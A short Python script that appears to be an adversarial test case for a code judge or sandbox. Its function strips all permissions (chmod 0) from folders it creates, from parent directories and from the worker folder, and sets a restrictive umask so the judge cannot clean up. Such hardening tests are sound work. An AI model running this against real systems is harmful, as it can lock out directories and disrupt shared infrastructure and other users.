# what: take the permissions from the folders that the judge will remove
# passes: yes

import os
import pathlib


def attack():
    for name in ("a", "a/b", "a/b/c", "d"):
        os.mkdir(name)
    pathlib.Path("a/b/c/file").write_text("x")
    for path in ("a/b/c/file", "a/b/c", "a/b", "a", "d", ".", "..", "../..", WORKER_FOLDER):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    os.umask(0o777)
    for number in range(50):
        try:
            os.makedirs(f"e{number}/f")
        except OSError:
            pass
    return True
